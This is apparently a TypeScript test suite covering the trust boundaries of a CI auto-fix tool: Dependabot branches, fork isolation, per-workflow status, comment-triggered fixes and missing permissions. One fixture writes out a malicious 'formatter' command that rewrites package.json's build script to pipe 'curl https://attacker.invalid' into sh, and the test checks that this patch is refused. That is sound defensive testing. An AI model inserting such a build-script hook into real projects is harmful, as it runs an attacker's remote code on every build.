import { join } from 'node:path';
import { issueCommentEvent, type FakeGitHub, type PullFile } from '@closed-loop/testkit';
import {
  addWorkflowRun,
  FIX_STEPS,
  fixtureLog,
  seedRun,
  workspace,
  WORKFLOW_PATH,
  type Seeded,
  type Step,
  type Story,
  type StepOutputs,
  type StoryContext,
} from './stories.js';

/**
 * The loop's trust boundaries, replayed: who may cause a commit, what a fix may touch, what a fork's run
 * may change, what a required status means, and how a missing permission reads.
 */

const DEPENDABOT_BRANCH = 'dependabot/npm_and_yarn/trust-lodash-4.17.21';
const UNTRUSTED_BRANCH = 'trust-scripts';
const FORK_LOG = 'trust-fork-main.log';
const COMMENT_BRANCH = 'trust-comment-fix';
const MOVED_BRANCH = 'trust-comment-moved';
const FIX_LABEL = 'closed-loop:fix';
let issuesBeforePermissionStory = 0;

const CONFIG = (fixer: string) => `version: 1\nrecover:\n  mode: automatic\n  fixers:\n    format:\n      - ${JSON.stringify(fixer)}\n`;
const UNFORMATTED = 'export function total(items: {price:number}[]){\n  return items.reduce((sum,i)=>sum+i.price,0)\n}\n';

const classifyStep = (label: string, trigger?: Step['trigger']): Step => ({
  action: 'failure-classify',
  label,
  inputs: () => ({ workflows: WORKFLOW_PATH }),
  ...(trigger ? { trigger } : {}),
});

/** classify → propose-fix (no token) → apply-fix, as the fix path of closed-loop.yml runs them. */
const CLASSIFY_AND_FIX: Step[] = [classifyStep('classify'), ...FIX_STEPS];

function outcomeOf(outputs: StepOutputs, label: string): { action?: string; reason?: string } {
  return JSON.parse(outputs[label]?.outcome ?? '{}') as { action?: string; reason?: string };
}

function commitsOn(fake: FakeGitHub, branch: string): number {
  return fake.writes.filter((w) => JSON.stringify(w.body ?? '').includes('createCommitOnBranch') && JSON.stringify(w.body ?? '').includes(branch)).length;
}

/**
 * A writer's `/closed-loop fix` on a PR, written a minute after its head: the issue_comment event, with
 * the comment the fake knows (so replies land in the right place).
 */
function seedComment(fake: FakeGitHub, pullNumber: number): Record<string, unknown> {
  fake.state.collaborators.set({ username: 'trust-maintainer', role: 'write' });
  const event = issueCommentEvent({ body: '/closed-loop fix', login: 'trust-maintainer', issueNumber: pullNumber, repository: `${fake.owner}/${fake.repo}` });
  const c = fake.state.comments.add({ issueNumber: pullNumber, body: '/closed-loop fix', user: 'trust-maintainer' });
  Object.assign(event.comment as Record<string, unknown>, { id: c.id, created_at: new Date(fake.state.now().getTime() + 60_000).toISOString() });
  return event;
}

/**
 * A PR adding the unformatted cart (prettier configured as the fixer) and a writer's `/closed-loop fix` on
 * it: the comment-fix stories' starting point, triggered by that issue_comment.
 */
function seedCommentedPull(fake: FakeGitHub, ctx: StoryContext, branch: string, title: string, files?: PullFile[]) {
  const prettier = join(ctx.root, 'node_modules', 'prettier', 'bin', 'prettier.cjs');
  const tree = { '.github/closed-loop.yml': CONFIG(`node ${prettier} --write src`), 'src/cart.ts': UNFORMATTED };
  const headSha = fake.state.commits.add({ branch, message: 'Add the cart', files: tree });
  const { pull, issue } = fake.state.pulls.add({ head: branch, title, user: 'octocat', headSha, ...(files ? { files } : {}) });
  const seeded: Seeded = {
    event: seedComment(fake, pull.number),
    eventName: 'issue_comment',
    runId: 0,
    headSha,
    branch,
    logName: '(none: a comment)',
    workspace: workspace(tree),
  };
  return { seeded, pull, issue };
}

/** The PR's own CI run (pull_request, started by the label) completing: the loop's workflow_run. */
function prRunTrigger(fake: FakeGitHub, branch: string, pullNumber: number): { eventName: string; event: Record<string, unknown> } {
  const headSha = fake.state.branches.get(branch)?.sha ?? '';
  return {
    eventName: 'workflow_run',
    event: addWorkflowRun(fake, { workflow: 'CI', path: WORKFLOW_PATH, branch, headSha, conclusion: 'success', log: 'ok\n', pullNumbers: [pullNumber] }).event,
  };
}

/** comment gate → the PR's CI proposes (no token) → the loop's comment-request → apply-fix. */
function commentFixSteps(branch: string, moveHead?: (fake: FakeGitHub) => void): Step[] {
  return [
    { action: 'recover', label: 'comment', inputs: () => ({ phase: 'comment' }) },
    { action: 'recover', label: 'propose-fix', token: 'none', inputs: (o) => (o.comment?.proceed === 'true' ? { phase: 'propose-fix' } : undefined) },
    {
      action: 'recover',
      label: 'comment-request',
      inputs: (o) => (o['propose-fix'] ? { phase: 'comment-request' } : undefined),
      trigger: (_s, o, fake) => {
        moveHead?.(fake);
        return prRunTrigger(fake, branch, Number(o.comment?.['pull-number']));
      },
    },
    {
      action: 'recover',
      label: 'apply-fix',
      inputs: (o) => {
        const r = o['comment-request'];
        if (r?.proceed !== 'true') return undefined;
        return {
          phase: 'apply-fix',
          'pull-number': r['pull-number'] ?? '',
          'head-sha': r['head-sha'] ?? '',
          'comment-id': r['comment-id'] ?? '',
          'comment-kind': r['comment-kind'] ?? '',
          'fix-mode': r['fix-mode'] ?? '',
        };
      },
    },
  ];
}

let commentPull = 0;
let commentLabels: string[] = [];
let movedPull = 0;

export const TRUST_STORIES: Story[] = [
  {
    id: 'fix-from-bot',
    title: 'Lint failure on a Dependabot branch: the fix is offered as suggestions, never committed',
    seed(fake, ctx) {
      const prettier = join(ctx.root, 'node_modules', 'prettier', 'bin', 'prettier.cjs');
      const files = { '.github/closed-loop.yml': CONFIG(`node ${prettier} --write src`), 'src/cart.ts': UNFORMATTED };
      const headSha = fake.state.commits.add({ branch: DEPENDABOT_BRANCH, message: 'Bump lodash', files });
      const { pull } = fake.state.pulls.add({ head: DEPENDABOT_BRANCH, title: 'Bump lodash to 4.17.21', user: 'dependabot[bot]', headSha });
      const log = fixtureLog('prettier-check.log');
      const { run, event } = addWorkflowRun(fake, {
        workflow: 'CI',
        path: WORKFLOW_PATH,
        branch: DEPENDABOT_BRANCH,
        headSha,
        conclusion: 'failure',
        log: log.text,
        actor: 'dependabot[bot]',
        pullNumbers: [pull.number],
      });
      return { event, runId: run.id, headSha, branch: DEPENDABOT_BRANCH, logName: log.name, workspace: workspace(files) };
    },
    steps: CLASSIFY_AND_FIX,
    expect(fake, outputs, seeded) {
      const unmet: string[] = [];
      if (fake.state.branches.get(DEPENDABOT_BRANCH)?.sha !== seeded.headSha) unmet.push(`${DEPENDABOT_BRANCH} gained a commit`);
      if (commitsOn(fake, DEPENDABOT_BRANCH)) unmet.push('apply-fix tried to commit on the Dependabot branch');
      const outcome = outcomeOf(outputs, 'apply-fix');
      if (outcome.action !== 'suggest') unmet.push(`apply-fix: ${outcome.action ?? 'no outcome'}, expected suggest`);
      if (!outcome.reason?.includes('dependabot[bot]')) unmet.push(`apply-fix reason does not name the bot: ${outcome.reason ?? ''}`);
      return unmet;
    },
  },
  {
    id: 'fix-untrusted-content',
    title: 'A fixer patch that edits package.json scripts: refused, with the reason in the summary',
    seed(fake) {
      // Stands in for anything `npm ci` installed: the "formatter" rewrites the build script.
      const evil = `node -e "const f='package.json';const p=JSON.parse(require('fs').readFileSync(f,'utf8'));p.scripts.build='curl https://attacker.invalid | sh';require('fs').writeFileSync(f,JSON.stringify(p,null,2)+'\\\\n')"`;
      const files = {
        '.github/closed-loop.yml': CONFIG(evil),
        'package.json': `${JSON.stringify({ name: 'cart', scripts: { build: 'tsc' } }, null, 2)}\n`,
      };
      const headSha = fake.state.commits.add({ branch: UNTRUSTED_BRANCH, message: 'Add build script', files });
      const { pull } = fake.state.pulls.add({ head: UNTRUSTED_BRANCH, title: 'Add build script', user: 'octocat', headSha });
      const log = fixtureLog('prettier-check.log');
      const { run, event } = seedRun(fake, { branch: UNTRUSTED_BRANCH, headSha, log, conclusion: 'failure', agoMinutes: 1, pullNumbers: [pull.number] });
      return { event, runId: run.id, headSha, branch: UNTRUSTED_BRANCH, logName: log.name, workspace: workspace(files) };
    },
    steps: CLASSIFY_AND_FIX,
    expect(fake, outputs, seeded) {
      const unmet: string[] = [];
      if (fake.state.branches.get(UNTRUSTED_BRANCH)?.sha !== seeded.headSha) unmet.push(`${UNTRUSTED_BRANCH} gained a commit`);
      if (fake.state.contents.get('package.json', { ref: fake.state.branches.get(UNTRUSTED_BRANCH)?.sha })?.includes('attacker'))
        unmet.push('package.json was changed');
      const outcome = outcomeOf(outputs, 'apply-fix');
      if (outcome.action === 'fix' || outcome.action === 'suggest') unmet.push(`apply-fix delivered the patch (${outcome.action})`);
      if (!/patch refused: .*package\.json/.test(outcome.reason ?? '')) unmet.push(`apply-fix reason does not refuse package.json: ${outcome.reason ?? ''}`);
      return unmet;
    },
  },
  {
    id: 'fork-isolation',
    title: "A fork's green run from its own main: main's open issue stays open, no resolution is sent",
    seed(fake) {
      const text =
        'Run npm test\nFAIL src/fork.test.ts\n  ● fork isolation › keeps the base issue\n    expect(received).toBe(expected)\nTests: 1 failed, 1 total\n##[error]Process completed with exit code 1.\n';
      const headSha = fake.state.commits.add({ branch: 'main', message: 'Break the fork test', files: { 'src/fork.ts': 'export const fork = 1;\n' } });
      const failed = seedRun(fake, { branch: 'main', headSha, log: { name: FORK_LOG, text }, conclusion: 'failure', agoMinutes: 3 });
      const forkSha = fake.state.commits.add({ branch: 'main', message: 'fork head', files: { 'src/fork.ts': 'export const fork = 2;\n' } });
      const green = addWorkflowRun(fake, {
        workflow: 'CI',
        path: WORKFLOW_PATH,
        branch: 'main',
        headSha: forkSha,
        conclusion: 'success',
        log: 'ok\n',
        fork: true,
      });
      return {
        event: failed.event,
        runId: failed.run.id,
        headSha,
        branch: 'main',
        logName: FORK_LOG,
        workspace: workspace({}),
        forkEvent: green.event,
      } as Seeded;
    },
    steps: [
      classifyStep('classify-main'),
      {
        action: 'notify',
        label: 'notify-main',
        inputs: (o) => (o['classify-main']?.path === 'failure' ? { verdict: o['classify-main'].result ?? '' } : undefined),
      },
      classifyStep('classify-fork', (s) => ({ eventName: 'workflow_run', event: (s as Seeded & { forkEvent: Record<string, unknown> }).forkEvent })),
      {
        action: 'notify',
        label: 'notify-fork',
        inputs: (o) => (o['classify-fork']?.path === 'success' ? {} : undefined),
        trigger: (s) => ({ eventName: 'workflow_run', event: (s as Seeded & { forkEvent: Record<string, unknown> }).forkEvent }),
      },
    ],
    expect(fake, outputs) {
      const unmet: string[] = [];
      const number = Number(outputs['notify-main']?.['issue-number'] ?? 0);
      const issue = fake.state.issues.list().find((i) => i.number === number);
      if (!issue) unmet.push('notify-main opened no issue for the failure on main');
      else if (issue.state !== 'open') unmet.push(`main's issue #${number} was ${issue.state} by the fork's run`);
      if (outputs['notify-fork']?.change === 'resolution') unmet.push("the fork's run was reported as a resolution");
      if (outputs['notify-fork'] === undefined) unmet.push('notify-fork did not run');
      return unmet;
    },
  },
  {
    id: 'status-per-workflow',
    title: 'Workflow B green after workflow A red on the same SHA: A’s status context stays failure',
    seed(fake) {
      const headSha = fake.state.commits.add({ branch: 'trust-two-workflows', message: 'Two workflows', files: { 'src/two.ts': 'export const two = 2;\n' } });
      const a = seedRun(fake, { branch: 'trust-two-workflows', headSha, log: fixtureLog('jest-assertion.log'), conclusion: 'failure', agoMinutes: 2 });
      const b = addWorkflowRun(fake, {
        workflow: 'Lint',
        path: '.github/workflows/lint.yml',
        branch: 'trust-two-workflows',
        headSha,
        conclusion: 'success',
        log: 'ok\n',
      });
      return {
        event: a.event,
        runId: a.run.id,
        headSha,
        branch: 'trust-two-workflows',
        logName: 'jest-assertion.log',
        workspace: workspace({}),
        lintEvent: b.event,
      } as Seeded;
    },
    steps: [
      classifyStep('classify-a'),
      { action: 'notify', label: 'notify-a', inputs: (o) => (o['classify-a']?.path === 'failure' ? { verdict: o['classify-a'].result ?? '' } : undefined) },
      {
        action: 'notify',
        label: 'notify-b',
        inputs: () => ({}),
        trigger: (s) => ({ eventName: 'workflow_run', event: (s as Seeded & { lintEvent: Record<string, unknown> }).lintEvent }),
      },
    ],
    expect(fake, _outputs, seeded) {
      const statuses = fake.state.statuses.list().filter((s) => s.sha === seeded.headSha);
      const latest = (context: string) => statuses.filter((s) => s.context === context).at(-1)?.state;
      const unmet: string[] = [];
      if (latest('closed-loop / CI') !== 'failure') unmet.push(`closed-loop / CI is ${latest('closed-loop / CI') ?? 'missing'}, expected failure`);
      if (latest('closed-loop / Lint') !== 'success') unmet.push(`closed-loop / Lint is ${latest('closed-loop / Lint') ?? 'missing'}, expected success`);
      return unmet;
    },
  },
  {
    id: 'fix-from-comment',
    title: "/closed-loop fix: the gate records and labels, the PR's own CI runs the fixers, the loop delivers for the recorded head",
    seed(fake, ctx) {
      const added = UNFORMATTED.trimEnd().split('\n');
      const prFiles = [
        {
          filename: 'src/cart.ts',
          status: 'added' as const,
          additions: added.length,
          deletions: 0,
          patch: `@@ -0,0 +1,${added.length} @@\n${added.map((l) => `+${l}`).join('\n')}`,
        },
      ];
      const { seeded, pull, issue } = seedCommentedPull(fake, ctx, COMMENT_BRANCH, 'Add the cart', prFiles);
      commentPull = pull.number;
      commentLabels = issue.labels;
      return seeded;
    },
    steps: commentFixSteps(COMMENT_BRANCH),
    expect(fake, outputs, seeded) {
      const unmet: string[] = [];
      if (outputs.comment?.proceed !== 'true') unmet.push(`the gate did not proceed: ${outcomeOf(outputs, 'comment').reason ?? ''}`);
      if (outputs['comment-request']?.['head-sha'] !== seeded.headSha) unmet.push('comment-request did not hand over the recorded head');
      const outcome = outcomeOf(outputs, 'apply-fix');
      if (outcome.action !== 'suggest') unmet.push(`apply-fix: ${outcome.action ?? 'no outcome'}, expected suggest`);
      const review = fake.writes.find((w) => w.path.includes(`/pulls/${commentPull}/reviews`));
      if (!JSON.stringify(review?.body ?? '').includes('```suggestion')) unmet.push(`no suggested change in a review on #${commentPull}`);
      if (fake.state.branches.get(COMMENT_BRANCH)?.sha !== seeded.headSha) unmet.push(`${COMMENT_BRANCH} gained a commit`);
      if (commentLabels.includes(FIX_LABEL)) unmet.push(`the ${FIX_LABEL} label is still on #${commentPull}`);
      const replies = fake.state.comments.list({ issueNumber: commentPull }).map((c) => c.body);
      if (!replies.some((b) => b.includes('closed-loop:fix-request'))) unmet.push('no request record on the PR');
      if (!replies.some((b) => b.startsWith('Done:'))) unmet.push('no "Done" answer on the comment');
      return unmet;
    },
  },
  {
    id: 'fix-from-comment-moved',
    title: "/closed-loop fix, then a push before the PR's CI: the patch is for another head, so nothing is delivered",
    seed(fake, ctx) {
      const { seeded, pull } = seedCommentedPull(fake, ctx, MOVED_BRANCH, 'Add the cart, then more');
      movedPull = pull.number;
      return seeded;
    },
    steps: commentFixSteps(MOVED_BRANCH, (fake) => {
      const moved = fake.state.commits.add({ branch: MOVED_BRANCH, message: 'pushed after the comment', files: { 'src/more.ts': 'export const more = 1;\n' } });
      const pull = fake.state.pulls.list().find((p) => p.number === movedPull);
      if (pull) pull.head.sha = moved;
    }),
    expect(fake, outputs) {
      const unmet: string[] = [];
      if (outputs.comment?.proceed !== 'true') unmet.push(`the gate did not proceed: ${outcomeOf(outputs, 'comment').reason ?? ''}`);
      if (outputs['comment-request']?.proceed === 'true') unmet.push('comment-request handed over a request for a head that moved');
      if (outputs['apply-fix']) unmet.push('apply-fix ran');
      if (!/head moved after the comment/.test(outcomeOf(outputs, 'comment-request').reason ?? ''))
        unmet.push(`comment-request reason: ${outcomeOf(outputs, 'comment-request').reason ?? ''}`);
      if (fake.writes.some((w) => w.path.includes(`/pulls/${movedPull}/reviews`))) unmet.push('a review was posted on the moved PR');
      const replies = fake.state.comments.list({ issueNumber: movedPull }).map((c) => c.body);
      if (!replies.some((b) => b.startsWith('Nothing changed: the fix was requested for'))) unmet.push('no refusal answer on the comment');
      return unmet;
    },
  },
  {
    id: 'missing-permission',
    title: 'notify without issues: write: one line naming the permission, exit 1',
    seed(fake) {
      const text =
        "Run npx tsc --noEmit\nsrc/permission.ts(3,7): error TS2322: Type 'string' is not assignable to type 'number'.\nFound 1 error in src/permission.ts:3\n##[error]Process completed with exit code 2.\n";
      const headSha = fake.state.commits.add({ branch: 'main', message: 'Break the permission test', files: { 'src/permission.ts': 'export const p = 1;\n' } });
      const { run, event } = seedRun(fake, { branch: 'main', headSha, log: { name: 'trust-permission.log', text }, conclusion: 'failure', agoMinutes: 1 });
      issuesBeforePermissionStory = fake.state.issues.list().length;
      // The job's token was granted no issues: write; GitHub answers the issue creation with 403.
      fake.addFault({ method: 'POST', pathPattern: /\/repos\/[^/]+\/[^/]+\/issues$/, status: 403, permissionDenied: true, times: 1 });
      return { event, runId: run.id, headSha, branch: 'main', logName: 'trust-permission.log', workspace: workspace({}) };
    },
    steps: [
      classifyStep('classify'),
      { action: 'notify', label: 'notify', expectExit: 1, inputs: (o) => (o.classify?.path === 'failure' ? { verdict: o.classify.result ?? '' } : undefined) },
    ],
    expect(fake) {
      const now = fake.state.issues.list().length;
      return now !== issuesBeforePermissionStory ? [`${now - issuesBeforePermissionStory} issue(s) created despite the 403`] : [];
    },
  },
];
